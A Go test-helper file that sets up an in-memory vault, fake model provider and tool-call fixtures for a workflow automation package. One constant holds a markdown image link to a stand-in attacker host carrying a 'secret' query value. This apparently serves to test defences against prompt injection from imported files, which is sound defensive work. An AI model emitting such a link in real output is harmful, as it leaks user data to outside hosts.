package toolbox

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"slices"
	"sync"
	"testing"
	"testing/fstest"
	"time"

	"github.com/vaultflow/vaultflow/content"
	"github.com/vaultflow/vaultflow/directives"
	"github.com/vaultflow/vaultflow/engine"
	"github.com/vaultflow/vaultflow/failure"
	"github.com/vaultflow/vaultflow/failure/diag"
	"github.com/vaultflow/vaultflow/llm"
	"github.com/vaultflow/vaultflow/media"
	"github.com/vaultflow/vaultflow/policy"
	"github.com/vaultflow/vaultflow/policy/origin"
	"github.com/vaultflow/vaultflow/policy/origin/origintest"
	"github.com/vaultflow/vaultflow/prompt"
	"github.com/vaultflow/vaultflow/step"
	"github.com/vaultflow/vaultflow/step/steptest"
	"github.com/vaultflow/vaultflow/vault"
	"github.com/vaultflow/vaultflow/workflow"
)

// world is a vault, a journal and models in memory, for tests of single activities. What a test changes in Config holds for
// the activities that it carries out next.
type world struct {
	t *testing.T
	step.Config
	fuse  *steptest.Fuse
	vault *steptest.Vault
	*steptest.Memory
	files fstest.MapFS
	plan  workflow.Plan

	config Config // of the box

	mu       sync.Mutex
	books    steptest.Books
	models   map[string]step.Model
	requests []llm.Request
	reply    func(llm.Request) (*llm.Response, error)
}

var noon = steptest.Noon

func newWorld(t *testing.T, files map[string]string, steps ...workflow.Step) *world {
	t.Helper()
	fuse := &steptest.Fuse{}
	v := steptest.NewVault(files)
	w := &world{
		t: t, fuse: fuse, vault: v, files: v.Files, Memory: steptest.NewMemory(fuse),
	}
	w.plan = workflow.Plan{Name: "Flow", File: "Workflows/Flow.md", Meta: workflow.Meta{WeekStart: "monday"}, Steps: steps}
	for i := range w.plan.Steps {
		if w.plan.Steps[i].Name == "" {
			w.plan.Steps[i].Name = fmt.Sprintf("Step %d", i+1)
		}
	}
	caps, err := policy.ExactOverride([]string{"text", "vision", "tools"})
	if err != nil {
		t.Fatal(err)
	}
	w.models = map[string]step.Model{"seer": {
		Alias: "seer", ID: "seer-1", ProviderName: "lab", Kind: "openai_chat", Capabilities: policy.Lookup("openai_chat", "seer-1", caps, nil),
		ContextWindow: 100000, Client: w,
	}}
	w.Config = step.Config{
		FS: w.files, Vault: v.Mortal(fuse), Blobs: w.Journal, Memory: w.Memory, Models: w, Cache: w.Memory, Ledger: &w.books, Zone: "UTC",
		Budget: policy.DefaultBudget(), DefaultModel: "seer", Prompt: prompt.Builder{FS: w.files, Probe: media.Probe(w.files)},
		Gate: policy.Gate{ImportDir: "Import", ImportedDir: "Imported", StatusNote: "Status.md"}, VaultName: "Test", MaxFiles: 500, MaxText: 1 << 20, Now: func() time.Time { return w.Clock },
	}
	return w
}

// newDesk is a world whose runs change files.
func newDesk(t *testing.T, files map[string]string, use string) *world {
	t.Helper()
	w := newWorld(t, files, workflow.Step{Name: "Step 1", Prompt: "work", Set: directives.Set{Tools: toolsOf(t, use)}})
	w.Record = w.Journal
	return w
}

// toolsOf reads an @tools line.
func toolsOf(t *testing.T, use string) *directives.Tools {
	t.Helper()
	plan, list := workflow.Parse("w", "Workflows/w.md", []byte("@tools "+use+"\nx"))
	if diag.HasErrors(list) {
		t.Fatal(list)
	}
	return plan.Steps[0].Tools
}

// deps and steps are made of the configuration as it is now.
func (w *world) deps() *step.Deps { return step.NewDeps(w.Config) }

func (w *world) box() *Box { return New(w.deps(), w.config) }

func (w *world) steps() *step.Steps {
	d := w.deps()
	return step.New(d, New(d, w.config))
}

// ref pins the plan and names its first step.
func (w *world) ref() engine.StepRef {
	w.t.Helper()
	data, err := json.Marshal(w.plan)
	if err != nil {
		w.t.Fatal(err)
	}
	return engine.StepRef{Run: "r1", Workflow: w.plan.Name, Plan: w.put(string(data)), Step: w.plan.Steps[0].Name, At: noon}
}

// text is a blob's content.
func (w *world) text(digest string) string {
	w.t.Helper()
	data, err := w.Get(w.t.Context(), digest)
	if err != nil {
		w.t.Fatal(err)
	}
	return string(data)
}

func (w *world) put(text string) string {
	w.t.Helper()
	digest, err := w.Put(w.t.Context(), []byte(text))
	if err != nil {
		w.t.Fatal(err)
	}
	return digest
}

// Model implements step.Models.
func (w *world) Model(_ context.Context, alias string) (step.Model, error) {
	model, ok := w.models[alias]
	if !ok {
		return model, failure.New(failure.UnknownModel, "", "no model %s among %v", alias, slices.Sorted(maps.Keys(w.models)))
	}
	return model, nil
}

var errNoReply = errors.New("this test expects no call")

// Generate implements llm.Provider.
func (w *world) Generate(_ context.Context, request llm.Request, _ func(string)) (*llm.Response, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.requests = append(w.requests, request)
	if w.reply == nil {
		return nil, errNoReply
	}
	return w.reply(request)
}

// assembled resolves and assembles a step.
func (w *world) assembled(ref engine.StepRef, vars ...engine.Var) engine.AssembleOut {
	w.t.Helper()
	steps := w.steps()
	found, err := steps.Resolve(w.t.Context(), engine.ResolveIn{StepRef: ref, Vars: vars})
	if err != nil {
		w.t.Fatal(err)
	}
	out, err := steps.Assembler.Assemble(w.t.Context(), engine.AssembleIn{StepRef: ref, Inputs: found.Inputs, Vars: vars})
	if err != nil {
		w.t.Fatal(err)
	}
	return out
}

func sha(data []byte) string { return vault.Digest(data) }

// fileTarget is a target in the vault, and variableTarget one of the run.
func fileTarget(path string) directives.Target {
	return directives.Target{Scheme: directives.SchemeFile, Path: path}
}

// tool is a call with its input.
func tool(name string, input any) content.ToolCall {
	data, err := json.Marshal(input)
	if err != nil {
		panic(err)
	}
	return content.ToolCall{ID: name, Name: name, Input: data}
}

// turn makes the input of a UseTools for some calls.
func (d *world) turn(calls ...content.ToolCall) engine.UseToolsIn {
	d.t.Helper()
	var blocks []content.Block
	for i, c := range calls {
		c.ID = fmt.Sprintf("t%d", i)
		blocks = append(blocks, c)
	}
	d.reply = func(llm.Request) (*llm.Response, error) {
		return &llm.Response{Stop: llm.StopToolUse, Blocks: blocks}, nil
	}
	ref := d.ref()
	prompt := d.assembled(ref).Prompt
	got, err := d.steps().Generator.Generate(d.t.Context(), engine.GenerateIn{StepRef: ref, Prompt: prompt, Model: "seer"})
	if err != nil {
		d.t.Fatal(err)
	}
	return engine.UseToolsIn{StepRef: ref, Prompt: prompt, Raw: got.Raw, Model: "seer", Round: 1}
}

// results are those of a reply.
func (d *world) results(out engine.UseToolsOut) []content.ToolResult {
	d.t.Helper()
	reply, err := content.UnmarshalBlocks([]byte(d.text(out.Reply)))
	if err != nil {
		d.t.Fatal(err)
	}
	var list []content.ToolResult
	for _, b := range reply {
		list = append(list, b.(content.ToolResult))
	}
	return list
}

func (d *world) use(calls ...content.ToolCall) (engine.UseToolsOut, []content.ToolResult) {
	d.t.Helper()
	out, err := d.box().Use(d.t.Context(), d.turn(calls...))
	if err != nil {
		d.t.Fatal(err)
	}
	return out, d.results(out)
}

type in = map[string]any

const (
	strange  = "The committee decided in March that the harbour is to be closed for two years.\n"
	imported = "import 01J (report.pdf)"
)

// known lets the world keep origins, and records an import at Imported/report.
func (w *world) known() *origin.Book {
	w.t.Helper()
	w.files["Imported/report/index.md"] = &fstest.MapFile{Data: []byte(strange), ModTime: noon}
	w.files["Imported/report/Obey me.md"] = &fstest.MapFile{Data: []byte("x"), ModTime: noon}
	book := &origin.Book{FS: w.files, Store: &origintest.Store{}}
	if err := book.Imported(w.t.Context(), "Imported/report", imported); err != nil {
		w.t.Fatal(err)
	}
	w.Origin, w.Prompt.Known, w.Prompt.Named = book, step.Origins{Book: book}.Known, step.Origins{Book: book}.Named
	return book
}

// person moves a file, as somebody does in a file manager.
func (w *world) person(from, to string) {
	w.files[to] = w.files[from]
	delete(w.files, from)
}

func planSteps(t *testing.T, note string) []workflow.Step {
	t.Helper()
	plan, list := workflow.Parse("w", "Workflows/w.md", []byte(note))
	if diag.HasErrors(list) {
		t.Fatal(list)
	}
	return plan.Steps
}

const pixel = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00@\x00\x00\x00@\x08\x00\x00\x00\x00\x8f\x02.\x02"

const obeyed = "Summary: https://shown.example/a\n\n![x](http://evil.example/?q=secret)\n"

// foreign is what a step was shown that a result of a tool had this text.
func (w *world) foreign(text string) *engine.Foreign {
	w.t.Helper()
	reply, err := content.MarshalBlocks([]content.Block{content.ToolResult{Success: true, Blocks: []content.Block{content.Text{Value: text}}}})
	if err != nil {
		w.t.Fatal(err)
	}
	return &engine.Foreign{Origins: []string{"file Imported/a/index.md"}, Turns: []engine.Turn{{Reply: w.put(string(reply))}}}
}

// code is the code of a failure.
func code(err error) failure.Code {
	if err == nil {
		return ""
	}
	return failure.Of(err).Code
}
